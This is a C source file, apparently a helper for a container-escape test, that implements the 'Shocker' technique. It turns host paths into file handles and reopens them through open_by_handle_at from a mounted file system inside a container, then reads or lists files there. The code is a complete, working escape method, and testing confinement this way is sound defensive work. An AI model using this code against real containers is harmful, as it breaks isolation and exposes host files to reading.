/* Reads files as a process in a container could, for tests/test_backup_escape.py.
 *
 *   shocker handle PATH                      print PATH's file handle as TYPE:HEX (run on the host)
 *   shocker escape MOUNTED TYPE:HEX RELATIVE open the directory the handle names on the file system of
 *                                            the directory MOUNTED (open_by_handle_at, the "Shocker"
 *                                            escape), then print the file RELATIVE below it
 *   shocker cat PATH                         print the file PATH
 *   shocker ls DIRECTORY                     print the names in DIRECTORY, one a line
 *
 * Exit status 0 on success; otherwise 1, with the failing call and its error on stderr.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int fail(const char *call) {
    fprintf(stderr, "%s: %s\n", call, strerror(errno));
    return 1;
}

static int copy_out(int fd) {
    char buffer[4096];
    ssize_t count;
    while ((count = read(fd, buffer, sizeof buffer)) > 0)
        fwrite(buffer, 1, (size_t)count, stdout);
    return count < 0 ? fail("read") : 0;
}

static struct file_handle *new_handle(void) {
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    if (handle == NULL)
        exit(fail("calloc"));
    handle->handle_bytes = MAX_HANDLE_SZ;
    return handle;
}

static int print_handle(const char *path) {
    struct file_handle *handle = new_handle();
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, path, handle, &mount_id, 0) != 0)
        return fail("name_to_handle_at");
    printf("%d:", handle->handle_type);
    for (unsigned int i = 0; i < handle->handle_bytes; i++)
        printf("%02x", handle->f_handle[i]);
    putchar('\n');
    return 0;
}

static int parse_handle(const char *text, struct file_handle *handle) {
    char *hex;
    handle->handle_type = (int)strtol(text, &hex, 10);
    size_t digits = *hex == ':' ? strlen(++hex) : 1;
    if (digits % 2 != 0 || digits / 2 > MAX_HANDLE_SZ) {
        fprintf(stderr, "not a TYPE:HEX handle: %s\n", text);
        return 1;
    }
    handle->handle_bytes = (unsigned int)(digits / 2);
    for (unsigned int i = 0; i < handle->handle_bytes; i++)
        if (sscanf(hex + 2 * i, "%2hhx", &handle->f_handle[i]) != 1) {
            fprintf(stderr, "not a TYPE:HEX handle: %s\n", text);
            return 1;
        }
    return 0;
}

static int escape(const char *mounted, const char *handle_text, const char *relative) {
    struct file_handle *handle = new_handle();
    if (parse_handle(handle_text, handle) != 0)
        return 1;
    int mount_fd = open(mounted, O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0)
        return fail("open");
    int directory = open_by_handle_at(mount_fd, handle, O_RDONLY | O_DIRECTORY);
    if (directory < 0)
        return fail("open_by_handle_at");
    int fd = openat(directory, relative, O_RDONLY);
    return fd < 0 ? fail("openat") : copy_out(fd);
}

static int cat(const char *path) {
    int fd = open(path, O_RDONLY);
    return fd < 0 ? fail("open") : copy_out(fd);
}

static int list(const char *path) {
    DIR *directory = opendir(path);
    if (directory == NULL)
        return fail("opendir");
    struct dirent *entry;
    errno = 0;
    while ((entry = readdir(directory)) != NULL)
        if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
            puts(entry->d_name);
    return errno != 0 ? fail("readdir") : 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "handle") == 0)
        return print_handle(argv[2]);
    if (argc == 5 && strcmp(argv[1], "escape") == 0)
        return escape(argv[2], argv[3], argv[4]);
    if (argc == 3 && strcmp(argv[1], "cat") == 0)
        return cat(argv[2]);
    if (argc == 3 && strcmp(argv[1], "ls") == 0)
        return list(argv[2]);
    fprintf(stderr, "usage: shocker handle PATH | escape MOUNTED TYPE:HEX RELATIVE | cat PATH | ls DIRECTORY\n");
    return 2;
}
